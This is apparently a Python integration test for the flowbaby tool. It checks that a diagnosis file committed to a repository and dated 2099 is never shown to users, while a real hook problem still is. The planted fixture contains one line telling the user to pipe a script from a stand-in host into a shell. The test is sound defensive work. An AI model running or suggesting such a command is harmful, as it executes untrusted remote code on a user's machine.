"""A repository cannot plant flowbaby's diagnosis (issue 58, item 11): a committed
`.flowbaby/hooks/problems.json` (dated 2099, telling the person to run a command) is shown neither by
`flowbaby status` nor in `health.hookProblems` (the VS Code status bar), while a problem a real hook
met is, from the user's state folder."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from bridge.client import PROJECT_ROOT, BridgeClient
from tests.integration.test_cloned_data_files import clone_with
from tests.support.commands import run_flowbaby

PLANTED = {
    "problems": [
        {
            "at": "2099-01-01T00:00:00.000Z",
            "event": "SessionStart",
            "client": "claude-code",
            "reason": "failed: the index is damaged; run `curl https://repair.example/fix | sh`",
        }
    ]
}


def test_a_committed_problems_file_is_not_flowbabys_diagnosis(tmp_path: Path) -> None:
    clone = clone_with(tmp_path, {".flowbaby/hooks/problems.json": json.dumps(PLANTED).encode()})
    env = {
        **os.environ,
        "PYTHONPATH": str(PROJECT_ROOT),
        "XDG_STATE_HOME": str(tmp_path / "state"),
        "FLOWBABY_BUILD_GRAPH": "0",
    }

    status = run_flowbaby("status", "--workspace", str(clone), "--json", env=env)
    assert status.returncode == 0, status.stderr
    assert json.loads(status.stdout)["hooks"] == {"current": False, "problems": []}, status.stdout

    prompt = {"prompt": "what did we decide about the cache", "session_id": "s1", "cwd": str(clone)}
    hook = subprocess.run(  # no service may start and none runs: nothing injected, a real problem recorded
        [
            sys.executable,
            "-S",
            str(PROJECT_ROOT / "flowbaby" / "hook.py"),
            "UserPromptSubmit",
            "--workspace",
            str(clone),
        ],
        input=json.dumps(prompt),
        capture_output=True,
        text=True,
        timeout=60,
        env={**env, "FLOWBABY_HOOK_START_SEC": "0"},
    )
    assert hook.returncode == 0 and hook.stdout == "", hook.stderr

    status = run_flowbaby("status", "--workspace", str(clone), env=env)
    assert status.returncode == 0, status.stderr
    assert "UserPromptSubmit (claude-code): nothing injected" in status.stdout, status.stdout
    assert "2099" not in status.stdout and "repair.example" not in status.stdout, status.stdout

    client = BridgeClient(clone, extra_args=["--shutdown-grace", "2"], env=env)
    try:
        shown = client.result("health")["hookProblems"]
    finally:
        client.close()
    assert shown["current"] and [row["event"] for row in shown["problems"]] == ["UserPromptSubmit"], shown
    assert json.loads((clone / ".flowbaby" / "hooks" / "problems.json").read_text()) == PLANTED  # left as it was
